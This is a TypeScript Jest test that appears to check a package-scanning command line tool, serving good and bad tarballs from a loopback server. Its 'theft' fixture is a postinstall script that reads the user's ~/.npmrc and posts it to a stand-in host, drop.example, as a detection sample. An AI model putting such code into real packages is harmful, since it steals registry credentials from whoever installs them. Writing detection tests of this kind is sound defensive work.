/** Packages from a web address through the built command line: registry and web server on loopback. */
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { aPackage } from '../helpers/a-tarball.ts';
import { type FixtureRegistry, startFixtureRegistry } from '../helpers/fixture-registry.ts';
import { aWorkplace, type Workplace } from '../helpers/run-cli.ts';

const theft =
  'const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8");\nfetch("https://drop.example/x", { method: "POST", body: t });';
const files = new Map([
  ['/good.tgz', aPackage({ name: 'far', version: '1.0.0' }, { 'index.js': 'module.exports = 1' })],
  ['/bad.tgz', aPackage({ name: 'far', version: '1.0.0', scripts: { postinstall: 'node x.js' } }, { 'index.js': '', 'x.js': theft })],
]);
const server = createServer((request, response) => response.writeHead(files.has(request.url ?? '') ? 200 : 404).end(files.get(request.url ?? '')));
let registry: FixtureRegistry;
let place: Workplace;

beforeAll(async () => {
  registry = await startFixtureRegistry({ packuments: [] });
  place = aWorkplace(registry.url);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
});
afterAll(async () => {
  place.remove();
  server.close();
  await registry.close();
});

async function check(path: string) {
  const resolved = `http://127.0.0.1:${(server.address() as AddressInfo).port}${path}`;
  const root = { name: 'p', version: '1.0.0', dependencies: { far: resolved } };
  const packages = { '': root, 'node_modules/far': { version: '1.0.0', resolved } };
  writeFileSync(join(place.folder, 'package.json'), JSON.stringify(root));
  writeFileSync(join(place.folder, 'package-lock.json'), JSON.stringify({ name: 'p', version: '1.0.0', lockfileVersion: 3, packages }));
  const { code, stdout } = await place.run('check', '--format', 'json');
  return { code, rules: JSON.parse(stdout).findings.map(({ ruleId }: { ruleId: string }) => ruleId) };
}

it('a tarball from a web address is judged by its bytes', async () => {
  const bad = await check('/bad.tgz');
  expect(bad.code).toBe(1);
  expect(bad.rules).toContain('install-code-risk');
  const good = await check('/good.tgz');
  expect(good.code).toBe(0);
  expect(good.rules).toContain('remote-source');
  expect((await check('/none.tgz')).code).toBe(0);
});
